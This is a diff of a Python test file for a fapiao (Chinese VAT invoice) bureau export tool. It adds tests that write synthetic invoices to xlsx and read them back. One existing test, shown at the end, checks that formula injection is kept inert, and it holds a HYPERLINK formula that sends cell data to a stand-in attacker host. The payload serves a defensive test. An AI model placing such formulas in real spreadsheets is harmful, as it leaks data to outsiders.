@@ -9,6 +9,7 @@ from openpyxl import Workbook, load_workbook
 from openpyxl.utils.exceptions import IllegalCharacterError
 
 from ..tools import bureau_export as be
+from ..tools import fapiao_amount, fapiao_number
 from ..tools.rule_error import FapiaoRuleError
 from .fuzzing import HealthCheck, given, settings, st
 from .tools_case import ToolsCase, parametrize
@@ -218,6 +219,39 @@ class TestBureauExport(ToolsCase):
         assert red_row.is_red and red_row.amount_total == Decimal("-113.00")
         assert void_row.status == "void" and void_row.key == ("3200191130", "00000002")
         assert full_row.status == "red_full"
+
+    def test_row_from_fapiao(self):
+        """A register fapiao written as the bureau lists it reads back as that fapiao."""
+        common = {
+            "seller_vat": SELLER, "seller_name": "福州测试科技有限公司", "buyer_vat": None,
+            "buyer_name": "张三", "issue_date": date(2026, 10, 15),
+        }  # fmt: skip
+        digital = be.row_from_fapiao(
+            kind="digital_special", code=False, number="26442000000000000001",
+            amount_untaxed=100.0, amount_tax=13.0, amount_total=113.0, state="red_partial",
+            is_red=False, risk="正常", **common,
+        )  # fmt: skip
+        paper = be.row_from_fapiao(
+            kind="vat_general", code="032001900104", number="00000002", amount_untaxed=-50.0,
+            amount_tax=-6.5, amount_total=-56.5, state="void", is_red=True, **common,
+        )  # fmt: skip
+        assert (digital["code"], digital["number"], digital["buyer_vat"]) == ("", "", "")
+        assert digital["risk"] == "正常"
+        assert (paper["code"], paper["number"], paper["digital_number"]) == (
+            "032001900104", "00000002", "",
+        )  # fmt: skip
+        first, second = parse_ok(be.write_export_xlsx([digital, paper]))
+        assert first.key == ("", "26442000000000000001")
+        assert (first.kind, first.status, first.is_red) == ("digital_special", "red_partial", False)
+        assert first.amount_total == Decimal("113.00") and first.buyer_vat == ""
+        assert second.key == ("032001900104", "00000002")
+        assert (second.kind, second.status, second.is_red) == ("vat_general", "void", True)
+        assert second.amount_total == Decimal("-56.50")
+
+    def test_every_register_state_has_a_bureau_status(self):
+        states = {state for state, _label in fapiao_amount.FAPIAO_STATES}
+        assert set(be.STATUS_LABELS) == set(be.STATUSES.values()) == states
+        assert set(be.LABEL_BY_KIND) == set(be.KIND_BY_LABEL.values()) == set(fapiao_number.KINDS)
 
     def test_formula_injection_is_kept_as_inert_text(self):
         formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
